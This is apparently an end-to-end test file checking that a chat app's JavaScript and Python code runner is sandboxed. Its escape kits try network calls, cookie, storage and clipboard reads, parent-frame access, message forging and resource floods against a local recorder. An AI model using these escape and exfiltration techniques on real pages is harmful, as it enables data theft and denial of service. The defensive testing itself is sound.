"""Code blocks run in a sandbox that nothing gets out of: what code could try is tried in a real browser."""

import json
import re
from typing import Any

import pytest
from playwright.async_api import Locator, Page, Route, expect

from tests.e2e.chat import Chat
from tests.e2e.conftest import OpenChat
from tests.e2e.test_accessibility import violations
from tests.e2e.test_artifact_sandbox import Recorder, page, recorder, usable  # noqa: F401
from tests.e2e.test_artifacts import say
from tests.services.freehold_server import FreeholdServer

pytestmark = pytest.mark.browser

OVER = re.compile(r"^(Done|Failed|Stopped|The code could not|完成|第)")
PATIENCE_MS = 120_000
"""Python is 13 MB of code that is compiled on each run; on a busy machine that takes its time."""


def output(chat: Chat) -> Locator:
    return chat.answer.get_by_role("group", name="Output")


def status(chat: Chat) -> Locator:
    return output(chat).get_by_role("status")


def printed(chat: Chat) -> Locator:
    return output(chat).locator("pre")


async def run(chat: Chat, code: str, language: str = "js") -> None:
    """The answer is that code, and the reader runs it; returns when it is over."""
    await say(chat, f"```{language}\n{code}\n```")
    await chat.answer.get_by_role("button", name="Run").click()
    await expect(status(chat)).to_have_text(OVER, timeout=PATIENCE_MS)


@pytest.mark.parametrize(("theme", "phone"), [("light", False), ("dark", True)])
async def test_javascript_runs_when_it_is_asked_for(open_chat: OpenChat, theme: str, phone: bool) -> None:
    chat = await open_chat(theme=theme, phone=phone)
    await say(chat, "```js\nconsole.log('hello', { a: [1, 2] })\nconsole.error('careful')\n6 * 7\n```")
    button = chat.answer.get_by_role("button", name="Run")
    await expect(button).to_be_visible()
    assert await chat.page.locator("iframe").count() == 0, "nothing runs before the reader asks"
    await button.focus()
    await chat.page.keyboard.press("Enter")
    await expect(status(chat)).to_have_text(re.compile(r"^Done in [\d.]+ s$"))
    await expect(printed(chat)).to_contain_text("hello { a: [ 1, 2 ] }\ncareful\n")
    await expect(printed(chat)).to_contain_text("42")
    await expect(chat.page.locator("iframe")).to_have_count(0)
    await expect(button).to_be_focused()
    assert await violations(chat.page) == []
    await output(chat).get_by_role("button", name="Copy output").click()
    await expect(output(chat).get_by_role("button", name="Copied")).to_be_visible()
    assert await chat.page.evaluate("navigator.clipboard.readText()") == "hello { a: [ 1, 2 ] }\ncareful\n42"
    await output(chat).get_by_role("button", name="Ask about it").click()
    await expect(chat.composer).to_be_focused()
    await expect(chat.composer).to_have_value(
        "> Output of the code:\n>\n> ```\n> hello { a: [ 1, 2 ] }\n> careful\n> 42\n> ```\n\n"
    )
    await output(chat).get_by_role("button", name="Close output").click()
    await expect(output(chat)).to_have_count(0)


@pytest.mark.parametrize(
    ("code", "line", "words"),
    [
        ("let a = 1\nfunction f() {\n  throw new TypeError('no')\n}\nf()", 3, "TypeError: no\n    at f (code.js:3:9)"),
        ("let a = 1\nlet b = ;", 2, "SyntaxError: Unexpected token ';'"),
        ("let a = await 1\nlet b = ;", 2, "SyntaxError: Unexpected token ';'"),
        (
            "console.log('first')\nsetTimeout(() => {\n  null.x\n})",
            3,
            "first\nTypeError: Cannot read",
        ),
        ("async function f() {\n  throw new Error('no')\n}\nf()", 2, "Error: no\n    at f (code.js:2:9)"),
    ],
)
async def test_an_error_names_its_line(open_chat: OpenChat, code: str, line: int, words: str) -> None:
    chat = await open_chat()
    await run(chat, code)
    await expect(status(chat)).to_have_text(f"Failed in line {line}")
    await expect(printed(chat)).to_contain_text(words)


async def test_what_is_asynchronous_is_waited_for(open_chat: OpenChat) -> None:
    chat = await open_chat(language="zh-CN")
    await chat.page.get_by_role("textbox").last.fill(
        "```javascript\nconst a = await new Promise((go) => setTimeout(go, 100, 5))\n"
        "setTimeout(() => console.log('late'), 200)\nreturn a * 2\n```"
    )
    await chat.page.keyboard.press("Enter")
    await chat.page.get_by_role("button", name="运行").click()
    shown = chat.page.get_by_role("group", name="输出")
    await expect(shown.get_by_role("status")).to_have_text(re.compile(r"^完成，用时 [\d.]+ 秒$"))
    await expect(shown.locator("pre")).to_contain_text("late\n")
    await expect(shown.locator("pre")).to_contain_text("10")
    assert await violations(chat.page) == []


async def test_an_endless_loop_is_stopped_by_the_reader_and_by_time(open_chat: OpenChat) -> None:
    """The worker is gone with its frame: Playwright hears of both."""
    chat = await open_chat()
    await say(chat, "```js\nconsole.log('on')\nfor (;;);\n" + "// a long block\n" * 40 + "```")
    button = chat.answer.get_by_role("button", name="Run")
    await chat.page.locator(".thread").evaluate("(view) => view.scrollTo(0, 0)")
    await button.click()
    await expect(printed(chat)).to_have_text("on\n")
    await expect(status(chat)).to_be_in_viewport()
    async with chat.page.expect_event("framedetached", timeout=10_000):
        await output(chat).get_by_role("button", name="Stop").press("Enter")
    await expect(status(chat)).to_have_text("Stopped by you.")
    await expect(button).to_be_focused()
    await expect(chat.page.locator("iframe")).to_have_count(0)
    await usable(chat)
    await run(chat, "setInterval(() => 1, 100)\nfor (;;);")
    await expect(status(chat)).to_have_text("Stopped after 10 seconds, the most that code may run.")
    await expect(chat.page.locator("iframe")).to_have_count(0)
    await usable(chat)


FLOODS = {
    "output": "for (;;) console.log('x'.repeat(1000))",
    "tiny output": "for (;;) console.log('')",
    "messages": "for (;;) postMessage('x'.repeat(100000))",
    "value": "'x'.repeat(2 ** 28)",
    "memory": "const all = []; for (;;) all.push(new Array(100000).fill({}))",
    "workers": (
        "const code = URL.createObjectURL(new Blob(['for (;;);']))\n"
        "for (let at = 0; at < 50; at += 1) new Worker(code)\nfor (;;);"
    ),
}


@pytest.mark.parametrize("flood", FLOODS)
async def test_what_floods_or_hogs_ends_and_leaves_the_chat_usable(open_chat: OpenChat, flood: str) -> None:
    chat = await open_chat()
    await run(chat, FLOODS[flood])
    if "output" in flood:
        await expect(printed(chat)).to_contain_text("The rest is not shown: more than 200,000 characters were printed.")
    if await printed(chat).count():
        assert len(await printed(chat).inner_text()) < 300_000
    await expect(chat.page.locator("iframe")).to_have_count(0)
    await usable(chat)


KIT = """
const got = {}
const answered = (make) => new Promise((yes, no) => {
  const one = make()
  one.onopen = one.onload = one.onsuccess = yes
  one.onmessage = ({ data }) => data ? yes() : no()
  one.onerror = no
})
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
const tries = {
  fetch: () => fetch("HTTP/fetch"),
  fetchBlind: () => fetch("HTTP/blind", { mode: "no-cors" }),
  keepalive: () => fetch("HTTP/keepalive", { keepalive: true, method: "POST", mode: "no-cors" }),
  own: () => fetch("OWN/api/threads").then((answer) => answer.text()),
  ownBlind: () => fetch("OWN/api/threads", { mode: "no-cors", credentials: "include" }),
  xhr: () => answered(() => {
    const request = new XMLHttpRequest()
    request.open("GET", "HTTP/xhr")
    request.send()
    return request
  }),
  socket: () => answered(() => new WebSocket("WS/socket")),
  socketStream: () => new WebSocketStream("WS/socket-stream").opened,
  events: () => answered(() => new EventSource("HTTP/events")),
  transport: () => new WebTransport("https://127.0.0.1:PORT/transport").ready,
  imported: () => import("HTTP/module.js"),
  ownImported: () => import("OWN/assets/none.js"),
  importScripts: () => importScripts("HTTP/imported.js") || 1,
  worker: () => answered(() =>
    new Worker(blob("fetch('HTTP/nested').then(() => postMessage(1), () => postMessage(0))"))),
  farWorker: () => answered(() => new Worker("HTTP/worker.js")),
  beacon: () => navigator.sendBeacon("HTTP/beacon", "x"),
  font: () => new FontFace("far", "url(HTTP/font.woff2)").load(),
  webrtc: () => new RTCPeerConnection(),
  parentPage: () => parent.document.title,
  topPage: () => top.document.cookie,
  page: () => document.title,
  cookie: () => document.cookie,
  cookies: () => cookieStore.getAll(),
  local: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => answered(() => indexedDB.open("a")),
  caches: () => caches.open("a"),
  files: () => navigator.storage.getDirectory(),
  serviceWorker: () => navigator.serviceWorker.register("/artifact-frame"),
  locks: () => navigator.locks.request("a", () => 1),
  notice: () => Notification.requestPermission().then((answer) => answer === "granted" ? 1 : Promise.reject()),
  clipboard: () => navigator.clipboard.readText(),
  port: () => {
    const found = []
    MessagePort.prototype.postMessage = function () { found.push(this) }
    JSON.stringify = (was => function (word) { if (word?.type) found.push(word); return was(word) })(JSON.stringify)
    console.log("something")
    return found.length ? 1 : Promise.reject()
  },
}
const stringify = JSON.stringify
await Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
  const hung = new Promise((_, no) => setTimeout(no, 3000))
  try { got[name] = String(await Promise.race([attempt(), hung])) } catch { /* as it should be */ }
}))
postMessage({ word: stringify({ type: "ended", value: "forged" }) })
postMessage({ ready: true, listening: true, html: "x" })
console.log("report " + stringify(got))
"""


def aimed(kit: str, server: FreeholdServer, recorder: Recorder) -> str:  # noqa: F811
    kit = kit.replace("HTTP", f"http://127.0.0.1:{recorder.port}").replace("OWN", server.url)
    return kit.replace("WS/", f"ws://127.0.0.1:{recorder.port}/").replace("PORT", str(recorder.port))


async def escape(page: Page, server: FreeholdServer, code: str, language: str = "js") -> tuple[Chat, dict[str, Any]]:  # noqa: F811
    chat = Chat(page, server.url)
    await chat.open()
    await run(chat, code, language)
    words = await printed(chat).inner_text()
    assert "forged" not in words
    found = re.search(r"^report (.*)$", words, re.MULTILINE)
    assert found, words
    return chat, json.loads(found[1])


async def test_the_escape_kit_reaches_nothing(page: Page, server: FreeholdServer, recorder: Recorder) -> None:  # noqa: F811
    chat, got = await escape(page, server, aimed(KIT, server, recorder))
    assert (got, recorder.seen) == ({}, []), "something was read, or arrived"
    await usable(chat)


async def test_without_the_headers_the_kit_gets_out(page: Page, server: FreeholdServer, recorder: Recorder) -> None:  # noqa: F811
    """The test above can fail: the same kit in the same frame is heard as soon as its headers are taken away."""

    async def bare(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(body=await answer.text(), content_type="text/html")

    await page.route("**/artifact-frame", bare)
    _, got = await escape(page, server, aimed(KIT, server, recorder))
    await recorder.hears("fetch", "blind", "xhr", "socket", "events", "module.js", "imported.js", "nested")
    assert "fetch" in got


async def test_python_prints_and_gives_its_value(open_chat: OpenChat) -> None:
    chat = await open_chat()
    code = (
        "import asyncio, sys\nfrom decimal import Decimal\n\nasync def wait():\n    await asyncio.sleep(0.05)\n"
        "    print('slept')\n\nprint('hällo')\nprint('careful', file=sys.stderr)\nasyncio.run(wait())\n"
        "{'sum': sum(range(5)), 'main': __name__, 'tenth': Decimal('0.1')}"
    )
    await run(chat, code, "python")
    await expect(status(chat)).to_have_text(re.compile(r"^Done in [\d.]+ s$"))
    await expect(printed(chat)).to_contain_text("hällo\ncareful\nslept\n")
    await expect(printed(chat)).to_contain_text("{'sum': 10, 'main': '__main__', 'tenth': Decimal('0.1')}")
    assert await violations(chat.page) == []
    # in the same chat again: nothing of the first run is left
    await run(chat, "def f(x):\n    return 1 / x\n\nprint('sys' in globals())\nf(0)", "py")
    await expect(status(chat)).to_have_text("Failed in line 2")
    await expect(printed(chat)).to_contain_text("False\nTraceback (most recent call last):\n")
    await expect(printed(chat)).to_contain_text('File "code.py", line 5, in <module>\n    f(0)\n')
    await expect(printed(chat)).to_contain_text("ZeroDivisionError: division by zero")
    assert "_pyodide" not in await printed(chat).inner_text(), "what runs the code is not the reader's"


PYTHON_KIT = """
import asyncio, json, urllib.request, socket, js
from pyodide.code import run_js
from pyodide.http import pyfetch, open_url
got = {}
async def attempt(name, go):
    try:
        value = go()
        if hasattr(value, "__await__"):
            value = await asyncio.wait_for(value, 3)
        got[name] = str(value)
    except BaseException:
        pass
def connect():
    made = socket.create_connection(("127.0.0.1", PORT), 2)
    made.sendall(b"GET /raw HTTP/1.0\\r\\n\\r\\n")
    return made.recv(1)
async def micropip():
    import pyodide_js
    await pyodide_js.loadPackage("HTTP/package.whl")
    import package
await attempt("fetch", lambda: js.fetch("HTTP/fetch"))
await attempt("pyfetch", lambda: pyfetch("HTTP/pyfetch"))
await attempt("own", lambda: pyfetch("OWN/api/threads"))
await attempt("open_url", lambda: open_url("HTTP/open_url").read())
await attempt("urllib", lambda: urllib.request.urlopen("HTTP/urllib", timeout=2).read())
await attempt("socket", connect)
await attempt("package", micropip)
await attempt("eval", lambda: run_js("fetch('HTTP/eval')"))
await attempt("parent", lambda: js.parent.document.title)
await attempt("document", lambda: js.document.cookie)
await attempt("storage", lambda: js.localStorage.length)
js.postMessage('{"type": "ended", "value": "forged"}')
print("report " + json.dumps(got))
"""


async def test_python_reaches_nothing_either(page: Page, server: FreeholdServer, recorder: Recorder) -> None:  # noqa: F811
    chat, got = await escape(page, server, aimed(PYTHON_KIT, server, recorder), "python")
    assert (got, recorder.seen) == ({}, []), "something was read, or arrived"
    # a browser would give it; at once, because filling it takes a slow machine longer than code may run
    await run(chat, "size = 1_500_000_000\nheld = bytearray(size)", "python")
    await expect(status(chat)).to_have_text("Failed in line 2")
    await expect(printed(chat)).to_contain_text("MemoryError")
    await run(chat, "while True:\n    print('x' * 100)", "python")
    await expect(status(chat)).to_have_text("Stopped after 10 seconds, the most that code may run.")
    await expect(printed(chat)).to_contain_text("The rest is not shown")
    await usable(chat)
